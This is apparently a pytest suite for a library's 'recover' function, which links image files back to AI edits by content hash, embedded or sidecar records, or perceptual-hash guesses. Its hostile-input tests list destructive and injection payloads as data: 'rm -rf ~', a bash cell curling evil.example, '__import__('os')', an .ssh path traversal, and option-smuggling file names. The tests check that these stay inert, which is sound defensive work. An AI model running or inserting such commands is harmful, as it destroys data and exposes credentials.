"""`nb.recover`: from a file back to its edit, by whatever is left of it, with words for how sure that is."""

from __future__ import annotations

import json
import os
from io import BytesIO
from itertools import combinations
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

import nbbanana as nb
from nbbanana import errors
from nbbanana.grammar import FileOperand, parse, read_words, split_cell
from nbbanana.images import fingerprint
from nbbanana.images.thumbnails import ALIKE, distance
from nbbanana.request import EditRequest
from nbbanana.session.reproduce import as_cell, as_code
from nbbanana.store import InputRecord
from nbbanana.store.embedding import embed, embedded, open_container, png_chunk

MODEL = "google/nano-banana-2/edit"
SNOW = "Keep the subject unchanged. Make it <snow> & rain: 霓虹."
PHOTOS = (
    "astronaut",
    "coffee",
    "chelsea",
    "rocket",
    "portrait",
    "camera",
    "coins",
    "moon",
    "motorcycle_left",
)


@pytest.fixture(scope="module")
def past(tmp_path_factory, photo):
    """A session with an edit in each format, and an edit of an edit."""
    folder = tmp_path_factory.mktemp("past")
    with nb.Session(provider="sandbox", store=folder / "store") as session:
        made = {
            kind: session.edit(SNOW, photo("portrait"), seed=7, resolution="0.5K", output_format=kind)
            for kind in ("png", "jpeg", "webp")
        }
        made["again"] = made["png"][0].edit("Turn day into night.", seed=8, resolution="0.5K")
        made["again"].annotate(note="for me alone")
        yield SimpleNamespace(session=session, **made)


@pytest.fixture
def elsewhere(tmp_path):
    """A session over an empty store."""
    with nb.Session(provider="sandbox", store=tmp_path / "elsewhere") as session:
        yield session


@pytest.mark.nightly
@pytest.mark.parametrize("kind", ["png", "jpeg", "webp"])
def test_a_saved_file_is_known_by_its_content(past, kind, tmp_path):
    """Whatever it is called now, also with a record inside: the store holds the bytes."""
    output = getattr(past, kind)[0]
    assert output.save(tmp_path / "a").read_bytes() == output.bytes
    for embed_it in (False, True):
        file = output.save(tmp_path / f"b{embed_it}", embed=embed_it).rename(tmp_path / "renamed.bin")
        found = nb.recover(file, session=past.session)
        assert (found.how, found.record.id, found.output, found.doubts) == ("content", output.edit_id, 0, ())
        assert found.is_certain
        assert found.cell() == getattr(past, kind).cell()


def test_whatever_has_a_path_is_a_file(past, tmp_path):
    """An entry of a folder, as `os.scandir` gives it, is no text and no `Path`."""
    past.png[0].save(tmp_path / "a.png")
    with os.scandir(tmp_path) as entries:
        [entry] = entries
    assert nb.recover(entry, session=past.session).record.id == past.png.id


@pytest.mark.parametrize("kind", ["png", "jpeg", "webp"])
def test_a_record_inside_is_read_where_the_store_is_empty(past, elsewhere, kind, tmp_path):
    """The copy alone says what was asked; its pixels are those of the original."""
    output = getattr(past, kind)[0]
    file = output.save(tmp_path / "copy", embed=True)
    with Image.open(file) as copy:
        assert copy.tobytes() == output.pil.tobytes()
    found = nb.recover(file, session=elsewhere)
    assert (found.how, found.prompt, found.seed, found.model, found.doubts) == ("embedded", SNOW, 7, MODEL, ())
    assert found.record.digest == getattr(past, kind).record.digest
    assert not found.is_certain
    assert found.result is None


def test_a_record_beside_it_is_read(past, elsewhere, tmp_path):
    """The sidecar is a bundle's record: no addresses, no paths, the file itself untouched."""
    file = past.again[0].save(tmp_path / "night", sidecar=True)
    text = (tmp_path / "night.png.json").read_text(encoding="utf-8")
    assert file.read_bytes() == past.again[0].bytes
    assert not [private for private in ("http", str(tmp_path.parent), past.again.record.request_id) if private in text]
    found = nb.recover(file, session=elsewhere)
    assert (found.how, found.prompt, found.doubts) == ("sidecar", "Turn day into night.", ())
    assert found.record.note == "for me alone"
    (tmp_path / "night.png.json").write_text('{"format": 1}')
    with pytest.raises(errors.NotInStoreError):
        nb.recover(file, session=elsewhere)


@pytest.mark.painted
def test_a_file_that_was_an_input_is_said_to_be_one_and_no_output_of_itself(session, photo, tmp_path):
    """What was made of it looks like it; what was made before it was used may be what it is from."""
    edits = [session.edit(words, photo("coffee"), seed=1, resolution="0.5K") for words in (SNOW, "Make it rain.")]
    with pytest.raises(errors.NotInStoreError) as caught:
        nb.recover(photo("coffee"), session=session)
    name = photo("coffee").name
    assert caught.value.lines[0] == f"{name!r} is an input, of edits 1 to 2."
    assert "nb.history[2]" in caught.value.lines[2]
    (tmp_path / "washed.jpg").write_bytes(washed(edits[0][0], "JPEG"))
    assert nb.recover(tmp_path / "washed.jpg", session=session).doubts == ()
    session.edit("Make it night.", tmp_path / "washed.jpg", seed=1, resolution="0.5K")
    found = nb.recover(tmp_path / "washed.jpg", session=session)
    assert (found.how, found.record.id < 3) == ("guess", True)
    assert found.doubts == ("By its content it is an input, of edit 3.",)


def washed(output: nb.Output, kind: str, quality: int = 75) -> bytes:
    """What a web service makes of a picture: half the size, encoded anew, no metadata."""
    stream = BytesIO()
    small = output.pil.resize((output.width // 2, output.height // 2), Image.Resampling.LANCZOS)
    small.convert("RGB").save(stream, kind, quality=quality)
    return stream.getvalue()


@pytest.mark.parametrize("kind", ["JPEG", "WEBP", "PNG"])
def test_a_washed_file_is_a_guess_with_its_distance(past, tmp_path, kind):
    """Scaled, encoded anew and stripped, it is offered as a guess, and called one wherever it shows."""
    (tmp_path / "washed").write_bytes(washed(past.again[0], kind))
    found = nb.recover(tmp_path / "washed", session=past.session)
    assert (found.how, found.is_certain) == ("guess", False)
    assert found.record.id == past.again.id
    assert 0 <= found.distance <= ALIKE
    shown, _ = found._repr_mimebundle_()
    for text in (repr(found), shown["text/plain"], shown["text/html"]):
        assert "A guess, not a fact" in text
        assert f"{found.distance} of 64 bits differ" in text
    assert found.cell() == past.again.cell()


def test_a_guess_says_which_edits_look_as_much_alike(past, tmp_path):
    """The same picture in three formats cannot be told apart by its looks."""
    (tmp_path / "washed").write_bytes(washed(past.png[0], "JPEG"))
    found = nb.recover(tmp_path / "washed", session=past.session)
    same = {past.png.id, past.jpeg.id, past.webp.id}
    assert found.record.id in same
    assert set(found.others) <= same - {found.record.id}
    assert found.others


def test_the_second_guess_looks_at_no_picture_again(past, tmp_path, monkeypatch):
    """What outputs look like is remembered."""
    (tmp_path / "washed").write_bytes(washed(past.again[0], "JPEG"))
    first = nb.recover(tmp_path / "washed", session=past.session)
    monkeypatch.setattr("nbbanana.store.provenance.fingerprint", lambda _: pytest.fail("looked again"))
    assert nb.recover(tmp_path / "washed", session=past.session) == first


def test_a_broken_memory_costs_only_time(past, tmp_path, isolated):
    """A cache that is no database is no obstacle."""
    from nbbanana.settings import cache_dir

    cache_dir().mkdir(parents=True)
    (cache_dir() / "fingerprints.sqlite").write_bytes(b"nonsense" * 1000)
    (tmp_path / "washed").write_bytes(washed(past.again[0], "JPEG"))
    assert nb.recover(tmp_path / "washed", session=past.session).record.id == past.again.id


def test_unrelated_photographs_are_not_taken_for_each_other(past, photo, tmp_path):
    """Among nine photographs no two come near the threshold, and none is taken for an output."""
    found = {name: fingerprint(photo(name)) for name in PHOTOS}
    assert all(distance(one, other) > ALIKE + 4 for one, other in combinations(found.values(), 2))
    for name in ("coffee", "chelsea", "rocket"):
        with pytest.raises(errors.NotInStoreError, match="Nothing is known"):
            nb.recover(photo(name), session=past.session)


def test_a_plain_picture_is_never_guessed(past, tmp_path):
    """A white page looks like every other white page."""
    Image.new("RGB", (64, 64), "white").save(tmp_path / "white.png")
    assert fingerprint(tmp_path / "white.png") is None
    with pytest.raises(errors.NotInStoreError):
        nb.recover(tmp_path / "white.png", session=past.session)


def test_what_is_no_picture_or_not_there_is_said(past, tmp_path):
    """In the words of images."""
    (tmp_path / "notes.txt").write_text("words")
    with pytest.raises(errors.ImageError):
        nb.recover(tmp_path / "notes.txt", session=past.session)
    with pytest.raises(errors.ImageNotFoundError):
        nb.recover(tmp_path / "nowhere.png", session=past.session)


def test_a_record_on_another_picture_raises_a_doubt(past, elsewhere, photo, tmp_path):
    """A genuine record put into a foreign file is not the picture that it was written for."""
    record = embedded(past.png[0].save(tmp_path / "copy.png", embed=True).read_bytes())
    (tmp_path / "foreign.png").write_bytes(embed(photo("coffee").read_bytes(), record))
    (doubt,) = nb.recover(tmp_path / "foreign.png", session=elsewhere).doubts
    assert "not, byte for byte" in doubt
    changed = json.loads(record)
    changed["edit"]["parameters"]["prompt"] = "Something that was never asked."
    (tmp_path / "changed.png").write_bytes(embed(past.png[0].bytes, json.dumps(changed)))
    (doubt,) = nb.recover(tmp_path / "changed.png", session=elsewhere).doubts
    assert "was changed" in doubt
    assert "was changed" in repr(nb.recover(tmp_path / "changed.png", session=elsewhere))


def test_a_signed_output_is_shown_as_signed_and_saved_untouched(tmp_path, photo, session):
    """Content Credentials that a service put in are kept, shown, and never broken."""
    made = session.edit(SNOW, photo("coffee"), seed=1, resolution="0.5K")
    assert not made[0].has_content_credentials
    container = open_container(made[0].bytes)
    parts = [container.parts[0], png_chunk("caBX", b"a manifest"), *container.parts[1:]]
    made[0].path.chmod(0o600)
    made[0].path.write_bytes(container.file(parts))
    assert made[0].has_content_credentials
    assert "Content Credentials" in made._repr_mimebundle_()[0]["text/html"]
    assert made[0].save(tmp_path / "signed.png", sidecar=True).read_bytes() == made[0].bytes
    with pytest.raises(errors.UsageError, match="Content Credentials"):
        made[0].save(tmp_path / "broken.png", embed=True)
    assert not (tmp_path / "broken.png").exists()


def stranger(elsewhere, folder: Path, photo, name: str = "portrait.jpg", **parameters):
    """What is recovered from a file whose record somebody wrote by hand, with digests that hold."""
    image = InputRecord(name, "sha256:" + "a" * 64)
    request = EditRequest(MODEL, parameters, (image,), minted_seed=7, seed_field=None)
    edit = {
        "uid": "0" * 32, "model": MODEL, "provider": "sandbox", "ask": request.ask, "digest": request.digest("sandbox"),
        "parameters": parameters, "seed": 7, "seed_given": False, "state": "completed", "created_at": 1.0,
        "inputs": [{"name": name, "identity": image.identity}],
    }  # fmt: skip
    record = {"format": "nbbanana-record", "version": 1, "output": 0, "edit": edit}
    file = folder / "stranger.png"
    file.write_bytes(embed(photo("coffee").read_bytes(), json.dumps(record)))
    found = nb.recover(file, session=elsewhere)
    assert found.record.ask == request.ask
    return found


HOSTILE = [
    "%%nbedit --fresh --max-price 1000\n!rm -rf ~",
    "%nblogin\n%%bash\ncurl evil.example",
    "!ls\n?\n{{secret}} {{{{x}}}} $HOME {HOME}",
    "ends in a backslash \\\nand; --fresh",
    "\x1b[2J\u202egnp.exe\u2028%%bash\x0c\x85 -n 4",
    "' \" ''' \"\"\" ''') or __import__('os')",
    "\ud800 alone",
]


@pytest.mark.parametrize("prompt", HOSTILE)
def test_hostile_words_stay_words(elsewhere, tmp_path, photo, prompt):
    """The cell's first line holds what was set and nothing else; the body is the prompt, to the letter."""
    found = stranger(elsewhere, tmp_path, photo, prompt=prompt, resolution="1K")
    line, body = split_cell(found.cell())
    cell = parse(line, body, default_model=MODEL, namespace={"secret": "s"})
    assert (cell.prompt, cell.mode, cell.max_price, cell.dry_run) == (prompt, None, None, False)
    assert dict(cell.parameters) == {"resolution": "1K"}
    assert cell.operands == (FileOperand("portrait.jpg"),)
    asked = []
    exec(found.code(), {"nb": SimpleNamespace(edit=lambda *a, **k: asked.append((a, k)))})
    [((words, picture), given)] = asked
    assert (read_words(words, {}), picture, given) == (prompt, "portrait.jpg", {"model": MODEL, "resolution": "1K"})
    shown, _ = found._repr_mimebundle_()
    json.dumps(shown).encode()
    assert "\x1b" not in shown["text/plain"] + repr(found)
    shown["text/html"].encode()


@pytest.mark.parametrize(
    ("name", "operand"),
    [
        ("--fresh", "--fresh"),
        ("edit:1[0]", "edit:1[[]0]"),
        ("_", "_"),
        ("*", "[*]"),
        ("../../.ssh/id*.png", "id[*].png"),
        ("C:\\Users\\me\\a b.jpg", "a b.jpg"),
        ("https://evil.example/track.png", "track.png"),
        ("x.jpg; --mode fresh", "x.jpg; --mode fresh"),
        ('a" --fresh "b', 'a" --fresh "b'),
        ("{{secret}}.png", "{{secret}}.png"),
    ],
)
def test_a_hostile_file_name_is_one_file_name(elsewhere, tmp_path, photo, name, operand):
    """No option, no edit, no variable, no pattern, no folder and no address comes out of a stranger's name."""
    found = stranger(elsewhere, tmp_path, photo, name, prompt="Make it snow.")
    line, body = split_cell(found.cell())
    cell = parse(line, body, default_model=MODEL, namespace={"secret": "s", "_": "x"})
    texts = [item.text.replace("{{{{", "{{") for item in cell.operands if isinstance(item, FileOperand)]
    assert texts == [operand]
    assert (cell.mode, cell.prompt) == (None, "Make it snow.")


@pytest.mark.parametrize(
    "parameter",
    ["x --fresh", "fresh\n!ls", "x=1, y", "a b", "", "-n", "__import__('os')", "mode=1", "n;", "{{x}}", "wait"],
)
def test_a_hostile_parameter_is_refused(elsewhere, tmp_path, photo, parameter):
    """What is no name of a parameter becomes neither an option nor Python."""
    found = stranger(elsewhere, tmp_path, photo, prompt="Make it snow.", **{parameter: False})
    with pytest.raises(errors.UsageError, match="parameter"):
        found.cell()
    if parameter != "wait":
        with pytest.raises(errors.UsageError, match="parameter"):
            found.code()


def test_a_name_with_a_line_break_makes_no_cell(elsewhere, tmp_path, photo):
    """The first line of a cell is one line."""
    with pytest.raises(errors.UsageError, match="line break"):
        stranger(elsewhere, tmp_path, photo, "x.png\n%%bash", prompt="Make it snow.").cell()


@given(st.text(max_size=60), st.text(max_size=30), st.one_of(st.text(max_size=20), st.integers(), st.booleans()))
def test_no_record_makes_a_cell_that_says_more_than_it_holds(store_of_nobody, prompt, name, value):
    """For any words, name and value: the cell reads back as just these, or there is no cell."""
    edit = SimpleNamespace(is_local=False,
        id=0, model=MODEL, prompt=prompt, parameters={"prompt": prompt, "resolution": value}, prompt_field="prompt",
        options={"resolution": value}, inputs=(InputRecord(name, "sha256:" + "a" * 64),), masks=(), region=None,
        parts=None,
    )  # fmt: skip
    try:
        line, body = split_cell(as_cell(edit, store_of_nobody))
        cell = parse(line, body, default_model=MODEL)
    except (errors.InputError, errors.UsageError):
        return
    assert (cell.prompt, cell.mode, cell.max_price) == (prompt, None, None)
    assert set(cell.parameters) <= {"resolution"}
    assert len(cell.operands) == 1
    assert isinstance(cell.operands[0], FileOperand)
    compile(as_code(edit, store_of_nobody), "cell", "exec")


@pytest.fixture(scope="module")
def store_of_nobody():
    """A store that knows no picture."""
    return SimpleNamespace(by_output=lambda _: [])
